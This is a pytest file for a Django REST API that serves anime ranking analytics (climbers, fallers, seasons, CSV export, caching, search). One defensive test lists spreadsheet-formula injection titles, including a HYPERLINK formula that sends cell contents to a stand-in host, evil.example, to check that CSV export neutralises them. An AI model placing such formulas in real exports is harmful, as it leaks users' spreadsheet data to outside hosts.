from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.urls import reverse

from analytics import cache as analytics_cache
from analytics import wire
from snapshots.models import EtlRun
from snapshots.tests.factories import AnimeFactory, EtlRunFactory, GenreFactory, SnapshotFactory

pytestmark = pytest.mark.django_db

D = dt.date(2024, 5, 31)
LIST_ENDPOINTS = ["top-rated", "genres", "climbers", "fallers", "momentum", "new-entries", "streaks"]


@pytest.fixture
def history():
    """Two titles in the top feed on D and on D - 7: A climbs 5 -> 2, B falls 2 -> 5."""
    action = GenreFactory(mal_id=1, name="Action")
    a = AnimeFactory(mal_id=1, title="Climber", genres=[action])
    b = AnimeFactory(mal_id=2, title="Faller")
    for day, ranks in ((D - dt.timedelta(days=7), {a: 5, b: 2}), (D, {a: 2, b: 5})):
        run = EtlRunFactory(feed="top", taken_on=day)
        for anime, rank in ranks.items():
            score = Decimal("8.50") if anime is a and day == D else Decimal("8.00")
            SnapshotFactory(anime=anime, feed="top", taken_on=day, position=rank, rank=rank, score=score, run=run)
    return a, b


def _get(client, name, **params):
    return client.get(reverse(f"api:{name}"), params)


@pytest.mark.parametrize("name", LIST_ENDPOINTS)
def test_every_list_answers_in_the_shared_envelope(client, history, name):
    response = _get(client, name)
    assert response.status_code == 200
    body = response.json()
    assert set(body) == {"feed", "rank_by", "as_of", "date", "baseline_date", "insufficient_history", "results"}
    assert (body["feed"], body["rank_by"], body["date"]) == ("top", "rank", D.isoformat())


def test_trend_answers_name_the_feed_rank_they_compare(client):
    """`popular` moves by popularity and `upcoming` (no MAL rank yet) by position; each answer says so."""
    a, b = AnimeFactory(mal_id=1), AnimeFactory(mal_id=2)
    for day, places in ((D - dt.timedelta(days=7), {a: 2, b: 1}), (D, {a: 1, b: 2})):
        for anime, place in places.items():
            for feed in ("popular", "upcoming"):
                SnapshotFactory(anime=anime, feed=feed, taken_on=day, position=place, rank=None, popularity=place)
    climbers = _get(client, "climbers", feed="popular").json()
    assert climbers["rank_by"] == "popularity"
    assert [(r["mal_id"], r["rank"], r["previous_rank"], r["mal_rank"]) for r in climbers["results"]] == [
        (1, 1, 2, None)
    ]
    trending = _get(client, "trending", feed="upcoming").json()
    assert trending["rank_by"] == "position"
    assert {trending[block]["rank_by"] for block in ("weekly_fallers", "new_entries", "streaks")} == {"position"}
    assert [r["mal_id"] for r in trending["weekly_fallers"]["results"]] == [2]


def test_climbers_and_fallers_carry_the_rank_change(client, history):
    climbers = _get(client, "climbers", window=7).json()
    assert climbers["baseline_date"] == (D - dt.timedelta(days=7)).isoformat()
    assert [(r["mal_id"], r["title"], r["rank"], r["previous_rank"], r["change"]) for r in climbers["results"]] == [
        (1, "Climber", 2, 5, 3)
    ]
    fallers = _get(client, "fallers", window=7).json()
    assert [(r["mal_id"], r["change"]) for r in fallers["results"]] == [(2, -3)]


def test_momentum_carries_the_score_change(client, history):
    body = _get(client, "momentum", window=7).json()
    assert [(r["mal_id"], r["change"]) for r in body["results"]] == [(1, 0.5)]


def test_as_of_replays_a_past_day(client, history):
    body = _get(client, "top-rated", as_of=(D - dt.timedelta(days=3)).isoformat()).json()
    assert body["date"] == (D - dt.timedelta(days=7)).isoformat()
    # Equal scores that day: the feed's position breaks the tie.
    assert [r["mal_id"] for r in body["results"]] == [2, 1]


def test_short_history_says_so_instead_of_an_empty_list(client, history):
    body = _get(client, "climbers", window=30).json()
    assert body["results"] == []
    assert body["insufficient_history"]["needed_days"] == 31


def test_other_endpoints_answer(client, history):
    assert _get(client, "overview").json()["anime"] == 2
    seasons = _get(client, "seasons", from_year=2019, to_year=2021).json()
    # Both titles aired in spring 2020: two titles make no season at the default minimum of three.
    assert (seasons["results"], seasons["min_volume"], seasons["hidden_small_seasons"]) == ([], 3, 1)
    assert set(_get(client, "trending").json()) >= {"weekly_climbers", "monthly_momentum", "new_entries", "streaks"}
    assert [f["feed"] for f in _get(client, "feeds").json()][:2] == ["top", "airing"]
    assert _get(client, "etl-runs").json()["count"] == 2
    search = _get(client, "anime-search", q="climb").json()
    assert [row["mal_id"] for row in search["results"]] == [1]
    detail = client.get(reverse("api:anime-detail", args=[1])).json()
    assert detail["title"] == "Climber"
    history_body = client.get(reverse("api:anime-history", args=[1]), {"days": 30}).json()
    assert [p["feed_rank"] for p in history_body["feeds"]["top"]] == [5, 2]


def test_seasons_below_the_minimum_volume_are_hidden_and_counted(client, history, settings):
    AnimeFactory(mal_id=3, year=2020, season="spring")
    AnimeFactory(mal_id=4, year=2020, season="fall")
    body = _get(client, "seasons", from_year=2020, to_year=2020).json()
    assert [(row["season"], row["volume"]) for row in body["results"]] == [("spring", 3)]
    assert (body["min_volume"], body["hidden_small_seasons"]) == (3, 1)
    settings.SEASON_MIN_VOLUME = 1
    cache.clear()
    wire.forget()
    body = _get(client, "seasons", from_year=2020, to_year=2020).json()
    assert [(row["season"], row["volume"]) for row in body["results"]] == [("spring", 3), ("fall", 1)]
    assert (body["min_volume"], body["hidden_small_seasons"]) == (1, 0)
    schema = client.get(reverse("api-schema"), {"format": "json"}).json()
    assert (
        "SEASON_MIN_VOLUME"
        in schema["components"]["schemas"]["SeasonAnswer"]["properties"]["min_volume"]["description"]
    )


def test_title_history_answers_the_title_numbers_once_per_day_and_feed_places_per_feed(client, history):
    SnapshotFactory(anime=history[0], feed="airing", taken_on=D, position=7, rank=2, score=Decimal("8.50"))
    body = client.get(reverse("api:anime-history", args=[1])).json()
    assert set(body) == {"mal_id", "title", "days", "rank_by", "feeds"}
    # D is in two feeds and still one point; the score is a number.
    assert [(day["taken_on"], day["rank"], day["score"], day["rank_change"]) for day in body["days"]] == [
        ((D - dt.timedelta(days=7)).isoformat(), 5, 8.0, None),
        (D.isoformat(), 2, 8.5, 3),
    ]
    assert body["rank_by"] == {"top": "rank", "airing": "position"}
    assert body["feeds"]["airing"] == [
        {"taken_on": D.isoformat(), "feed_rank": 7, "position": 7, "feed_rank_change": None}
    ]
    assert [point["feed_rank_change"] for point in body["feeds"]["top"]] == [None, 3]


@pytest.mark.parametrize(
    ("name", "params", "field", "message"),
    [
        ("top-rated", {"limit": 0}, "limit", "greater than or equal to 1"),
        ("top-rated", {"limit": 101}, "limit", "less than or equal to 100"),
        ("top-rated", {"feed": "nope"}, "feed", "use one of: top, airing, upcoming, popular, movies, season"),
        ("top-rated", {"as_of": "yesterday"}, "as_of", "Date has wrong format"),
        ("top-rated", {"min_score": "11"}, "min_score", "less than or equal to 10"),
        ("climbers", {"window": 14}, "window", "use one of: 7, 30"),
        ("genres", {"kind": "moods"}, "kind", "use one of: genres, themes, demographics"),
        ("seasons", {"from_year": 2024, "to_year": 2020}, "from_year", "must not be after to_year"),
        ("new-entries", {"top": "many"}, "top", "A valid integer is required"),
        ("anime-search", {"season": "monsoon"}, "season", "use one of: winter, spring, summer, fall"),
        ("etl-runs", {"status": "odd"}, "status", "use one of: running, success"),
    ],
)
def test_a_bad_parameter_is_a_400_naming_it(client, name, params, field, message):
    response = _get(client, name, **params)
    assert response.status_code == 400
    assert message in " ".join(response.json()[field])


def test_an_unknown_title_is_a_json_404(client):
    for name in ("api:anime-detail", "api:anime-history"):
        response = client.get(reverse(name, args=[424242]))
        assert response.status_code == 404
        assert response.json() == {"detail": "No Anime matches the given query."}


def test_csv_export_has_a_header_row_and_a_file_name(client, history):
    response = _get(client, "climbers", window=7, format="csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="animedash-top-climbers-{D.isoformat()}.csv"'
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(row["mal_id"], row["change"]) for row in rows] == [("1", "3")]
    # The feed rank the change is counted in comes with the envelope.
    assert [row["rank_by"] for row in rows] == ["rank"]


def test_csv_flattens_paged_lists_too(client, history):
    response = _get(client, "etl-runs", format="csv")
    header = response.content.decode().splitlines()[0].split(",")
    assert header[:3] == ["id", "feed", "taken_on"]


def test_csv_errors_stay_json(client):
    response = _get(client, "top-rated", limit=0, format="csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "limit" in response.json()


def test_answers_are_cached_until_new_data_commits(client, history, django_assert_max_num_queries):
    first = _get(client, "top-rated").json()
    with django_assert_max_num_queries(1):  # the data version only
        assert _get(client, "top-rated").json() == first
    # A new run commits: every cached answer is stale at once.
    c = AnimeFactory(mal_id=3, title="Newcomer", score=Decimal("9.90"))
    SnapshotFactory(anime=c, feed="top", taken_on=D, position=3, rank=3, score=Decimal("9.90"))
    assert [r["mal_id"] for r in _get(client, "top-rated").json()["results"]] == [3, 1, 2]


def test_cache_hits_and_misses_are_counted(client, history):
    hits = analytics_cache.HITS.labels(endpoint="genres")
    misses = analytics_cache.MISSES.labels(endpoint="genres")
    before = (hits._value.get(), misses._value.get())
    _get(client, "genres")
    # Another format of the same answer: not kept on the wire yet, so the view asks the analytics cache.
    _get(client, "genres", format="csv")
    assert (hits._value.get() - before[0], misses._value.get() - before[1]) == (1, 1)


def test_redis_down_answers_from_the_database(client, history, settings):
    settings.CACHES = {
        "default": {
            "BACKEND": "django_redis.cache.RedisCache",
            "LOCATION": "redis://127.0.0.1:1/0",
            "OPTIONS": {"SOCKET_CONNECT_TIMEOUT": 0.2, "SOCKET_TIMEOUT": 0.2},
        }
    }
    analytics_cache._skip_until = 0.0

    def errors() -> float:
        # The throttle meets the dead cache first; from then on the cache is skipped for a while.
        return sum(analytics_cache.ERRORS.labels(endpoint=name)._value.get() for name in ("throttle", "climbers"))

    before = errors()
    try:
        response = _get(client, "climbers", window=7)
        assert response.status_code == 200
        assert response.json()["results"][0]["mal_id"] == 1
        assert errors() == before + 1
        # Then the cache is skipped for a while instead of timing out on every request.
        assert _get(client, "climbers", window=7).status_code == 200
        assert errors() == before + 1
    finally:
        analytics_cache._skip_until = 0.0


def test_starting_a_run_needs_a_staff_user(client, django_user_model):
    url = reverse("api:etl-runs")
    assert client.post(url, {"feed": "top"}).status_code == 403
    client.force_login(django_user_model.objects.create_user("fan", password="pw-fan-123456"))
    assert client.post(url, {"feed": "top"}).status_code == 403


def test_staff_start_a_run_by_queueing_it_for_a_worker_and_get_its_id(
    client, django_user_model, etl, settings, monkeypatch, django_capture_on_commit_callbacks
):
    from snapshots import tasks

    settings.CELERY_TASK_ALWAYS_EAGER = False  # a broker is configured
    queued: list[tuple] = []
    monkeypatch.setattr(tasks.feed_snapshot, "delay", lambda *args: queued.append(args))
    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.org", "pw-boss-123456"))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("api:etl-runs"), {"feed": "airing"}, content_type="application/json")
    assert response.status_code == 202
    answer = response.json()
    run = EtlRun.objects.get()
    assert (answer["id"], answer["feed"], answer["status"]) == (run.pk, "airing", "queued")
    assert (run.trigger, run.status) == (EtlRun.Trigger.API, EtlRun.Status.QUEUED)
    # The request only queued the run: Jikan was not called, and the worker gets the run's id.
    assert etl.request_count("/top/anime") == 0
    assert queued == [("airing", EtlRun.Trigger.API, run.pk)]


def test_starting_a_run_without_a_broker_is_a_409_saying_to_use_the_command(client, django_user_model, etl):
    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.org", "pw-boss-123456"))
    response = client.post(reverse("api:etl-runs"), {"feed": "airing"}, content_type="application/json")
    assert response.status_code == 409
    assert "manage.py etl run --feed airing" in response.json()["detail"]
    assert not EtlRun.objects.exists()
    assert etl.request_count("/top/anime") == 0


def test_starting_a_run_of_an_unknown_feed_is_a_400(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.org", "pw-boss-123456"))
    response = client.post(reverse("api:etl-runs"), {"feed": "nope"}, content_type="application/json")
    assert response.status_code == 400
    assert "feed" in response.json()


def test_schema_docs_and_browsable_root_are_served_offline(client):
    schema = client.get(reverse("api-schema"), {"format": "json"})
    assert schema.status_code == 200
    paths = schema.json()["paths"]
    assert "/api/v1/trending/climbers" in paths
    window = next(p for p in paths["/api/v1/trending/climbers"]["get"]["parameters"] if p["name"] == "window")
    assert "7 (weekly) or 30 (monthly)" in window["description"]
    docs = client.get(reverse("api-docs")).content.decode()
    assert "/static/drf_spectacular_sidecar/swagger-ui-dist/" in docs
    assert "cdn." not in docs
    root = client.get(reverse("api:root"), HTTP_ACCEPT="text/html")
    assert root.status_code == 200
    assert "/api/v1/trending/climbers" in root.content.decode()


def test_search_pages_are_cached_until_new_data_commits(client, history, django_assert_max_num_queries):
    first = _get(client, "anime-search", q="er").json()
    assert [row["mal_id"] for row in first["results"]] == [1, 2]
    with django_assert_max_num_queries(1):  # the data version only
        assert _get(client, "anime-search", q="er").json() == first
    AnimeFactory(mal_id=3, title="Newer", members=10**9)
    EtlRunFactory(feed="top", taken_on=D)  # a committed run moves the data version
    assert [row["mal_id"] for row in _get(client, "anime-search", q="er").json()["results"]] == [3, 1, 2]


def test_the_api_root_links_every_endpoint_the_urlconf_declares(client):
    from analytics.api.urls import urlpatterns

    links = client.get(reverse("api:root"), HTTP_ACCEPT="application/json").json()
    expected = {p.name for p in urlpatterns if p.name != "root" and not p.pattern.converters}
    assert expected <= set(links)
    assert {"overview", "trending", "climbers", "anime-search", "etl-runs"} <= expected
    assert links["climbers"].endswith("/api/v1/trending/climbers")
    assert set(links) - expected == {"schema", "docs"}


def _endpoints_with_output():
    from analytics.api.base import AnalyticsApi
    from analytics.api.urls import urlpatterns

    return [
        pytest.param(p.callback.view_class, bool(p.pattern.converters), id=p.name)
        for p in urlpatterns
        if issubclass(p.callback.view_class, AnalyticsApi)
    ]


def _shape(value):
    """The keys of an answer, nested, with lists reduced to the shape of their first item."""
    if isinstance(value, dict):
        return {key: _shape(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_shape(value[0])] if value else []
    return None


@pytest.mark.parametrize(("endpoint", "takes_title"), _endpoints_with_output())
def test_every_endpoint_sends_every_field_its_selector_computes(history, endpoint, takes_title):
    # An `Output` serializer drops what it does not declare: a field added to a selector must be declared too.
    path = {"mal_id": history[0].mal_id} if takes_title else {}
    filters = endpoint.Filter(data={})
    assert filters.is_valid(), filters.errors
    computed = endpoint.compute(**filters.validated_data, **path)
    assert _shape(endpoint.answer({}, **path)) == _shape(computed)


def test_the_schema_documents_each_answer_from_its_output_serializer(client):
    schema = client.get(reverse("api-schema"), {"format": "json"}).json()
    climbers = schema["paths"]["/api/v1/trending/climbers"]["get"]
    assert climbers["summary"] == "Rank climbers"
    assert climbers["responses"]["200"]["content"]["application/json"]["schema"] == {
        "$ref": "#/components/schemas/MovesAnswer"
    }
    row = schema["components"]["schemas"]["MoveRow"]["properties"]
    assert set(row) == {"mal_id", "title", "rank", "previous_rank", "change", "mal_rank", "score", "image_url"}
    assert "feed rank" in row["rank"]["description"]
    assert "MAL" in row["mal_rank"]["description"]
    for answer in ("MovesAnswer", "StreaksAnswer", "TopRatedAnswer", "TrendingAnswer"):
        assert "position" in schema["components"]["schemas"][answer]["properties"]["rank_by"]["description"]
    feeds = schema["paths"]["/api/v1/feeds"]["get"]["responses"]["200"]["content"]["application/json"]["schema"]
    assert feeds == {"type": "array", "items": {"$ref": "#/components/schemas/FeedRow"}}


# CSV ---------------------------------------------------------------------------------------------------


def _csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header = _csv_header(response)
    assert len(header) == len(set(header)), header
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def _csv_header(response) -> list[str]:
    return next(csv.reader(io.StringIO(response.content.decode(), newline="")))


def test_csv_of_an_empty_list_still_has_its_header_row(client):
    # No data at all: the columns come from the endpoint's declared rows, not from the (missing) data.
    response = _get(client, "climbers", format="csv")
    assert response.status_code == 200
    header = _csv_header(response)
    assert {"date", "baseline_date", "mal_id", "title", "rank", "previous_rank", "change"} <= set(header)
    assert response.content.decode().count("\n") == 1
    assert _csv_header(_get(client, "anime-search", q="nothing", format="csv"))[:2] == ["mal_id", "title"]
    assert _csv_header(_get(client, "etl-runs", format="csv"))[:3] == ["id", "feed", "taken_on"]


def test_csv_rows_carry_the_feed_day_and_baseline_day_of_their_envelope(client, history):
    answer = _get(client, "climbers", window=7).json()
    rows = _csv(_get(client, "climbers", window=7, format="csv"))
    shared = ["feed", "date", "baseline_date", *(["rank_by"] if "rank_by" in answer else [])]
    assert [{name: row[name] for name in shared} for row in rows] == [
        {name: str(answer[name]) for name in shared} for _ in answer["results"]
    ]
    assert (rows[0]["date"], rows[0]["baseline_date"]) == (D.isoformat(), (D - dt.timedelta(days=7)).isoformat())


def test_csv_file_name_names_the_feed_the_metric_and_the_day(client, history):
    response = _get(client, "climbers", window=7, format="csv")
    assert response["Content-Disposition"] == f'attachment; filename="animedash-top-climbers-{D.isoformat()}.csv"'
    assert _get(client, "top-rated", feed="airing", format="csv")["Content-Disposition"] == (
        'attachment; filename="animedash-airing-top-rated.csv"'  # the feed has no day yet
    )
    assert 'filename="animedash-overview.csv"' in _get(client, "overview", format="csv")["Content-Disposition"]


def test_csv_of_the_overview_has_one_row_per_feed(client, history):
    rows = _csv(_get(client, "overview", format="csv"))
    assert [row["feed"] for row in rows][:2] == ["top", "airing"]
    top = rows[0]
    assert (top["latest_day"], top["days"], top["last_run.status"]) == (D.isoformat(), "2", "success")


def test_csv_of_trending_has_one_row_per_item_naming_its_list(client, history):
    answer = _get(client, "trending").json()
    response = _get(client, "trending", format="csv")
    rows = _csv(response)
    assert _csv_header(response)[0] == "list"
    expected = [
        (name, str(row["mal_id"]))
        for name, block in answer.items()
        if isinstance(block, dict)
        for row in block["results"]
    ]
    assert [(row["list"], row["mal_id"]) for row in rows] == expected
    assert ("weekly_climbers", "1") in expected
    assert ("weekly_fallers", "2") in expected
    climber = next(row for row in rows if row["list"] == "weekly_climbers")
    assert (climber["baseline_date"], climber["change"]) == ((D - dt.timedelta(days=7)).isoformat(), "3")


def test_csv_of_a_title_history_has_one_row_per_day_and_feed_with_the_titles_numbers(client, history):
    a = history[0]
    SnapshotFactory(anime=a, feed="airing", taken_on=D, position=1, rank=2, score=Decimal("8.50"))
    response = client.get(reverse("api:anime-history", args=[a.mal_id]), {"format": "csv"})
    assert response["Content-Disposition"] == 'attachment; filename="animedash-anime-history-1.csv"'
    assert _csv_header(response)[:5] == ["mal_id", "title", "taken_on", "feed", "rank_by"]
    rows = _csv(response)
    week_ago = (D - dt.timedelta(days=7)).isoformat()
    assert [(r["taken_on"], r["feed"], r["rank_by"], r["position"], r["score"], r["rank"]) for r in rows] == [
        (week_ago, "top", "rank", "5", "8.00", "5"),
        (D.isoformat(), "top", "rank", "2", "8.50", "2"),
        (D.isoformat(), "airing", "position", "1", "8.50", "2"),
    ]
    assert {(r["mal_id"], r["title"]) for r in rows} == {("1", "Climber")}


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, history):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
    for offset, title in enumerate(hostile):
        anime = AnimeFactory(mal_id=100 + offset, title=title)
        SnapshotFactory(anime=anime, feed="top", taken_on=D, position=10 + offset, rank=10 + offset, score=None)
    titles = [row["title"] for row in _csv(_get(client, "top-rated", limit=20, format="csv"))]
    assert titles[-len(hostile) :] == ["'" + title for title in hostile]
    # A real negative number is a number, not text: it stays as it is.
    assert _csv(_get(client, "fallers", window=7, format="csv"))[0]["change"] == "-3"


def test_an_unknown_format_is_a_json_400_naming_the_formats(client):
    response = _get(client, "top-rated", format="xml")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"format": ['"xml" is not allowed; use one of: json, api, csv.']}
    # A title's facts have no CSV form, and the schema has its own formats.
    detail = client.get(reverse("api:anime-detail", args=[1]), {"format": "csv"})
    assert (detail.status_code, detail.json()) == (400, {"format": ['"csv" is not allowed; use one of: json, api.']})
    schema = client.get(reverse("api-schema"), {"format": "xml"})
    assert schema.status_code == 400
    assert "use one of: yaml, json" in schema.json()["format"][0]


# Hostile requests --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "params", "unknown"),
    [
        ("top-rated", {"bogus": "1"}, ["bogus"]),
        ("climbers", {"windows": "7", "limt": "5"}, ["limt", "windows"]),
        ("anime-search", {"q": "x", "junk": "1"}, ["junk"]),
        ("etl-runs", {"pages": "2"}, ["pages"]),
        ("feeds", {"feed": "top"}, ["feed"]),
    ],
)
def test_an_unknown_query_parameter_is_a_400_naming_it(client, name, params, unknown):
    response = _get(client, name, **params)
    assert response.status_code == 400
    body = response.json()
    assert sorted(body) == unknown
    assert all("Unknown parameter" in body[key][0] for key in unknown)


def test_format_and_paging_parameters_are_known_where_they_apply(client, history):
    assert _get(client, "top-rated", format="json").status_code == 200
    assert _get(client, "anime-search", page=1, page_size=10, format="json").status_code == 200
    assert _get(client, "etl-runs", page=1, page_size=10).status_code == 200
    assert _get(client, "top-rated", page=1).status_code == 400


@pytest.mark.parametrize(
    ("method", "url", "status"),
    [
        ("get", "/api/v1/nope", 404),
        ("get", "/api/v1/top-rated/", 404),
        ("get", "/api/v1/anime/abc", 404),
        ("get", "/api/nope", 404),
        ("post", "/api/v1/nope", 404),
        ("post", "/api/v1/top-rated", 405),
        ("delete", "/api/v1/anime", 405),
        ("put", "/api/v1/etl/runs", 405),
        ("post", "/api/schema/", 405),
        ("delete", "/api/docs/", 405),
        ("get", "/api/v1/top-rated?format=csv&limit=0", 400),
        ("options", "/api/v1/top-rated?format=csv", 200),
    ],
)
def test_every_api_path_answers_json_even_unknown_ones_and_wrong_methods(client, method, url, status):
    response = getattr(client, method)(url)
    assert response.status_code == status
    assert response["Content-Type"] == "application/json"
    assert response.json()


# Types and schema --------------------------------------------------------------------------------------


def _values(answer, key=""):
    """Every (key, value) leaf of an answer."""
    if isinstance(answer, dict):
        for name, value in answer.items():
            yield from _values(value, name)
    elif isinstance(answer, list):
        for value in answer:
            yield from _values(value, key)
    else:
        yield key, answer


def test_a_score_is_a_number_in_every_answer_and_times_are_utc_iso(client, history, django_user_model):
    urls = [reverse(f"api:{name}") for name in [*LIST_ENDPOINTS, "trending", "overview", "feeds", "etl-runs"]]
    urls += [reverse("api:anime-search"), reverse("api:anime-detail", args=[1]), reverse("api:anime-history", args=[1])]
    scores = []
    for url in urls:
        for key, value in _values(client.get(url).json()):
            if "score" in key and value is not None:
                scores.append((url, key, value))
                assert isinstance(value, int | float), (url, key, value)
            if key.endswith("_at") and value is not None:
                assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", value), (url, key, value)
            if key in {"date", "baseline_date", "taken_on", "latest_day", "first_day"} and value is not None:
                assert re.fullmatch(r"\d{4}-\d\d-\d\d", value), (url, key, value)
    assert {url for url, _, _ in scores} >= {reverse("api:anime-search"), reverse("api:top-rated")}


def test_the_schema_marks_public_endpoints_public_a_persons_own_signed_in_and_starting_a_run_staff_only(client):
    schema = client.get(reverse("api-schema"), {"format": "json"}).json()
    operations = {(method, path): op for path, ops in schema["paths"].items() for method, op in ops.items()}
    assert operations[("post", "/api/v1/etl/runs")]["security"] == [{"cookieAuth": []}]
    assert "cookieAuth" in schema["components"]["securitySchemes"]
    personal = {key: op["security"] for key, op in operations.items() if key[1].startswith("/api/v1/me/")}
    assert personal
    assert all(security == [{"tokenAuth": []}, {"cookieAuth": []}] for security in personal.values())
    public = {
        key: op.get("security")
        for key, op in operations.items()
        if key != ("post", "/api/v1/etl/runs") and key not in personal
    }
    assert ("get", "/api/v1/etl/runs") in public
    assert set(map(str, public.values())) == {"[]"}
    score = schema["components"]["schemas"]["AnimeRow"]["properties"]["score"]
    assert score["type"] == "number"


# Cache keys --------------------------------------------------------------------------------------------


def _cache_keys(endpoint):
    return cache.keys(f"analytics:{endpoint}:*")


def test_search_pages_are_cached_under_their_validated_parameters_only(client, history):
    first = _get(client, "anime-search", q="er").json()
    # The same page asked in other spellings: one cache entry, one answer.
    for extra in ({"page": "1"}, {"page": "01"}, {"page_size": "25"}, {"page_size": "abc"}, {"format": "json"}):
        assert _get(client, "anime-search", q="er", **extra).json() == first
    assert len(_cache_keys("anime-search")) == 1
    # A junk parameter is refused, so it can never add an entry.
    assert _get(client, "anime-search", q="er", junk="x" * 100).status_code == 400
    assert len(_cache_keys("anime-search")) == 1


@pytest.fixture
def titles_with_variants():
    AnimeFactory(
        mal_id=5114,
        title="Fullmetal Alchemist: Brotherhood",
        title_japanese="鋼の錬金術師 FULLMETAL ALCHEMIST",
        titles=[{"type": "Synonym", "title": "FMAB"}],
        members=3_000_000,
    )
    AnimeFactory(mal_id=20, title="Naruto", title_japanese="ナルト", members=2_000_000)
    AnimeFactory(
        mal_id=16498,
        title="Shingeki no Kyojin",
        title_english="Attack on Titan",
        titles=[{"type": "Synonym", "title": "AoT"}, {"type": "Synonym", "title": "SnK"}],
        members=3_500_000,
    )
    AnimeFactory(mal_id=9, title="Pokémon", members=1)


@pytest.mark.parametrize(
    ("q", "found"),
    [
        ("fullmetal alchemist brotherhood", [5114]),
        ("FULLMETAL   alchemist: Brotherhood!", [5114]),
        ("brotherhood alchemist", [5114]),
        ("fmab", [5114]),
        ("鋼の錬金術師", [5114]),
        ("ナルト", [20]),
        ("AOT", [16498]),
        ("attack titan", [16498]),
        ("pokemon", [9]),
        ("POKÉMON", [9]),
        ("naruto titan", []),
        ("!!!", []),
    ],
)
def test_search_matches_every_word_in_any_title_variant_whatever_case_accents_or_punctuation(
    client, titles_with_variants, q, found
):
    response = _get(client, "anime-search", q=q)
    assert response.status_code == 200
    assert [row["mal_id"] for row in response.json()["results"]] == found


def test_a_titles_answer_lists_every_name_it_has(client, titles_with_variants):
    detail = client.get(reverse("api:anime-detail", args=[16498])).json()
    assert detail["titles"] == [{"type": "Synonym", "title": "AoT"}, {"type": "Synonym", "title": "SnK"}]
    assert "search_text" not in detail


def test_the_run_log_tells_a_failure_in_words_and_never_the_database_text(client):
    raw = 'Database error: value too long for type character varying(500) CONTEXT: COPY "etl_stage_title"'
    public = "Database error; the day keeps its previous data."
    EtlRunFactory(status=EtlRun.Status.FAILED, error=raw, public_error=public)
    assert [run["error"] for run in _get(client, "etl-runs").json()["results"]] == [public]
    csv_text = _get(client, "etl-runs", format="csv").content.decode()
    assert public in csv_text
    assert "character varying" not in csv_text
    assert "character varying" not in _get(client, "overview").content.decode()
